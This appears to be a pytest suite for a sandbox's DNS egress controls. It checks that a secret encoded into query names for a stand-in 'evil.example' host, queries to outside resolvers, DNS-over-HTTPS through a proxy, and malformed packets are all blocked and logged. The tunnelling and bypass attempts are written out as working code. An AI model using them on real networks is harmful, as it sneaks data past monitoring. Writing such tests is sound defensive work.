"""Carrying something out in questions for names, or asking somebody else."""

from __future__ import annotations

import socket
import textwrap

import pytest

from paddock import Sandbox
from security.attack import eventually, probe
from security.network.inside import alerts, get, refused, say_all, status

ASK = """
import random, socket, struct
def packet(name, qtype=1, qclass=1, flags=0x0100, labels=None):
    labels = labels if labels is not None else [x.encode("latin-1") for x in name.split(".") if x]
    wire = b"".join(bytes([len(x)]) + x for x in labels) + b"\\0"
    head = struct.pack("!6H", 4242, flags, 1, 0, 0, 0)
    return head + wire + struct.pack("!2H", qtype, qclass)
def ask(data, server="198.18.0.2", port=53, tcp=False, wait=10):
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET,
                       socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
        sock.settimeout(wait)
        sock.connect((server, port))
        sock.sendall(struct.pack("!H", len(data)) * tcp + data)
        answer = sock.recv(4096)
        if tcp:
            while len(answer) < 2 or len(answer) < 2 + struct.unpack("!H", answer[:2])[0]:
                more = sock.recv(4096)
                if not more:
                    break
                answer += more
            answer = answer[2:]
        return answer
def told(data, **more):
    '''Status and number of answers, or the error.'''
    try:
        answer = ask(data, **more)
    except OSError as error:
        return type(error).__name__
    return [answer[3] & 15, struct.unpack("!H", answer[6:8])[0]] if len(answer) >= 12 else "cut"
"""
SECRET = "c3VwZXItc2VjcmV0LXBheWxvYWQ"


def test_tunnels_in_names_that_are_not_allowed_end_here(box: Sandbox) -> None:
    program = """
    payload = sys.argv[1]
    for qtype in (1, 28, 16, 10, 15, 33, 5, 2, 6, 12, 255, 252, 251, 65, 64, 35, 256, 65280, 99):
        found[f"type {qtype}"] = told(packet(f"{payload}.{qtype}.tunnel.evil.example", qtype))
    found["long"] = told(packet(".".join(["a" * 63] * 3) + ".evil.example", 16))
    found["deep"] = told(packet(".".join(["a"] * 100) + ".evil.example", 16))
    found["root"] = told(packet("", 2))
    found["chaos"] = told(packet("version.bind", 16, 3))
    found["binary"] = told(packet("", 16, labels=[bytes(range(1, 60)), b"evil", b"example"]))
    found["dotted"] = told(packet("", 1, labels=[b"api.example"]))
    found["dotted below"] = told(packet("", 1, labels=[b"x.wild", b"example"]))
    found["spaced"] = told(packet("", 1, labels=[b"api", b"example "]))
    found["nul"] = told(packet("", 1, labels=[b"api", b"example\\0.evil"]))
    """
    found = probe(box, ASK + textwrap.dedent(program), SECRET)
    for name, answer in found.items():
        assert isinstance(answer, list), (name, answer)
        assert answer[1] == 0, (name, answer)  # no answer in it
    assert all(found[f"type {qtype}"][0] == 3 for qtype in (1, 28, 16, 10, 65))
    names = {one["name"] for one in refused(box, "dns")}
    assert any(SECRET.lower() in name for name in names)
    denied = {about["host"] for about in alerts(box, "egress.denied")}
    assert any(SECRET.lower() in host for host in denied)


def test_below_a_wildcard_a_name_carries_nothing_out_until_it_is_connected_to(
    box: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[object] = []
    real = socket.getaddrinfo
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: asked.append(a) or real(*a, **k))
    program = """
    for number in range(200):
        name, qtype = f"{number}.{sys.argv[1]}.wild.example", (1, 16, 10)[number % 3]
        found[str(number)] = told(packet(name, qtype))
    """
    found = probe(box, ASK + textwrap.dedent(program), SECRET)
    assert [0, 1] in found.values()
    assert all(answer in ([0, 1], [0, 0]) for answer in found.values()), found
    assert all(found[str(n)] == [0, 0] for n in range(200) if n % 3)  # nothing but addresses
    assert asked == []


def test_the_type_of_a_question_gives_nothing_but_addresses_that_stand_for_names(
    box: Sandbox,
) -> None:
    program = """
    import socket
    found["it"] = sorted({x[4][0] for x in socket.getaddrinfo("api.example", 80)})
    """
    assert [one.rpartition(".")[0] for one in probe(box, program)["it"]] == ["198.18.1"]


def test_other_name_servers_are_not_reached(box: Sandbox) -> None:
    """Whoever is asked, it is the door that answers, and it does not know the name."""
    program = """
    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "169.254.169.253", "2001:4860:4860::8888"):
        for tcp in (False, True):
            way = {"server": server, "tcp": tcp, "wait": 3}
            found[f"{server} {tcp}"] = told(packet("evil.example"), **way)
            found[f"{server} {tcp} known"] = told(packet("api.example"), **way)
    found["dot"] = told(packet("evil.example"), server="1.1.1.1", port=853, tcp=True, wait=3)
    found["mdns"] = told(packet("evil.local"), server="224.0.0.251", port=5353, wait=2)
    found["llmnr"] = told(packet("evil"), server="224.0.0.252", port=5355, wait=2)
    found["doq"] = told(packet("evil.example"), server="1.1.1.1", port=853, wait=3)
    """
    found = probe(box, ASK + textwrap.dedent(program))
    for name, answer in found.items():
        is_known = name.endswith("known")
        assert isinstance(answer, str) or answer[1] == 0 or is_known, (name, answer)
    assert found["8.8.8.8 False"] == [3, 0]
    assert all(isinstance(found[one], str) for one in ("dot", "mdns", "llmnr", "doq")), found
    eventually(lambda: {"224.0.0.251", "1.1.1.1"} <= {a["host"] for a in refused(box, "connect")})
    denied = {(a["host"], a.get("port")) for a in alerts(box, "egress.denied")}
    assert {("1.1.1.1", 853), ("224.0.0.251", 5353)} <= denied


def test_dns_over_https_to_a_denied_host_fails(box: Sandbox) -> None:
    data = get("/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", "dns.google")
    answers = say_all(
        box,
        {
            "name": {"host": "dns.google", "port": 443, "data": data, "sni": "dns.google"},
            "address": {"host": "8.8.8.8", "port": 443, "data": data, "sni": "dns.google"},
            "proxy": {"host": "198.18.0.1", "port": 3128, "data": data, "sni": "dns.google",
                      "tunnel": b"CONNECT dns.google:443 HTTP/1.1\r\nHost: dns.google\r\n\r\n"},
        },
    )  # fmt: skip
    assert {status(answer) for answer in answers.values()} <= {0, 403}
    assert "dns.google" in {about["host"] for about in alerts(box, "egress.denied")}
    assert "8.8.8.8" in {about["host"] for about in alerts(box, "egress.denied")}


def test_broken_questions_get_no_further_and_the_next_is_answered(box: Sandbox) -> None:
    program = """
    import os
    base = packet("api.example")
    bad = [b"", b"x", base[:11], base[:13], base[:-3], base + b"x" * 2000, os.urandom(600),
           base[:4] + b"\\xff\\xff" + base[6:], base[:12] + b"\\xc0\\x0c" + base[-4:],
           base[:12] + b"\\xc0\\x0e\\xc0\\x0c" + base[-4:], base[:12] + b"\\x80" * 200,
           base[:2] + b"\\x81\\x00" + base[4:], base[:2] + b"\\x29\\x00" + base[4:]]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for one in bad * 5:
            sock.sendto(one, ("198.18.0.2", 53))
    for one in bad:
        with socket.create_connection(("198.18.0.2", 53), 5) as sock:
            sock.sendall(struct.pack("!H", min(len(one) + 7, 65535)) + one)
    with socket.create_connection(("198.18.0.2", 53), 5) as sock:
        sock.sendall(b"\\xff\\xff" + bytes(70000))
    found["after"] = told(base)
    found["after by tcp"] = told(base, tcp=True)
    """
    found = probe(box, ASK + textwrap.dedent(program))
    assert found == {"after": [0, 1], "after by tcp": [0, 1]}
